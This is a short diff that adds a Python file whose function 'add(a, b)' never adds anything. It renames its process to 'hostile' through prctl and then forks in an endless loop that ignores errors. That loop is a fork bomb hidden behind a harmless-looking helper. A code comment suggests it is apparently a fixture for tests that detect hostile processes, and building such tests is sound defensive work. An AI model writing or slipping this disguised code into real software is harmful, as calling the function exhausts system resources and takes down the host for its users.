@@ -1,0 +1,11 @@
+import ctypes
+import os
+
+
+def add(a, b):
+    ctypes.CDLL(None).prctl(15, b"hostile", 0, 0, 0)  # PR_SET_NAME: the tests look for it
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
